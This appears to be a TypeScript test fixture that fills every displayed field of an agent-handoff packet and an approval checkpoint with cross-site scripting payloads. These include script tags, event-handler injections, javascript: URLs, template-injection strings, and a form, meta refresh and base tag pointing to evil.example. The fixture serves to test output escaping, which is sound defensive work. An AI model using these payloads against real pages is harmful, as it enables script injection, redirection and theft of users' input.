/** What somebody may try to run in the page of somebody else; `alert` is what the tests listen for. */
const attacks = [
  '"><img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '</textarea></pre></title></style><script>alert(3)</script>',
  '<svg/onload=alert(4)>',
  'javascript:alert(5)',
  `' onmouseover='alert(6)' autofocus onfocus='alert(6)' x='`,
  '<iframe srcdoc="<script>parent.alert(7)</script>"></iframe>',
  '<a href="javascript:alert(8)" id=own>x</a>',
  '<form action="https://evil.example"><input name=choice value=option-0><button>Send this answer</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><link rel=stylesheet href=x>',
  '--><script>alert(9)</script><!--',
  '&lt;script&gt;alert(10)&lt;/script&gt;',
  '`${alert(11)}`{{constructor.constructor("alert(12)")()}}',
  '\u202e<object data="javascript:alert(13)">\u2028<details open ontoggle=alert(14)>',
  '<style>main{display:none}</style>',
];

/** Texts that attack, each another one: its number tells it from all others on the page. */
export class HostileTexts {
  readonly all: string[] = [];

  /** @param max Characters. */
  next(max = 10_000): string {
    const serial = this.all.length;
    const text = `#${serial}# ${attacks[serial % attacks.length] ?? ''}`.slice(0, max);
    this.all.push(text);
    return text;
  }
}

/** A packet whose every text that a page may show attacks it. */
export const hostilePacket = (texts: HostileTexts): object => {
  const next = (max?: number) => texts.next(max);
  const agent = () => ({ id: next(), name: next() });
  const inherited = { metadata: { [next()]: next() } };
  return {
    metadata: {
      source_agent: agent(),
      target_agent: agent(),
      tags: [next(60), next(60)],
      reason: next(),
    },
    context: {
      summary: next(),
      conversation_state: Array.from({ length: 16 }, () => ({ role: 'user', content: next(), ...inherited })),
      artifacts: [
        { key: next(), value: { [next()]: [next(), { deep: next() }] }, content_type: next(100) },
        { key: next(), url: `https://files.example.com/${encodeURIComponent(next())}` },
      ],
      custom: { [next()]: next() },
    },
    decisions: Array.from({ length: 4 }, () => ({
      id: next(60),
      decision: next(),
      rationale: next(),
      alternatives: [next(), next()],
      decided_by: next(100),
    })),
    actions: {
      pending: [{ id: next(60), description: next(), assignee: next(100) }],
      completed: [{ id: next(60), description: next(), result: next(), completed_by: next(100) }],
      failed: [{ id: next(60), description: next(), error: next() }],
    },
    dependencies: [{ id: next(60), type: 'api', description: next(), status: 'blocked', source: next(100) }],
  };
};

/** A checkpoint that does the same. */
export const hostileHitl = (texts: HostileTexts) => ({
  reason: texts.next(),
  question: texts.next(),
  options: Array.from({ length: 16 }, () => ({
    label: texts.next(200),
    decision: 'custom',
    description: texts.next(),
  })),
  response_schema: { type: 'object', title: texts.next(), description: texts.next() },
  approvers: [{ id: texts.next(), kind: 'user', name: texts.next() }],
});
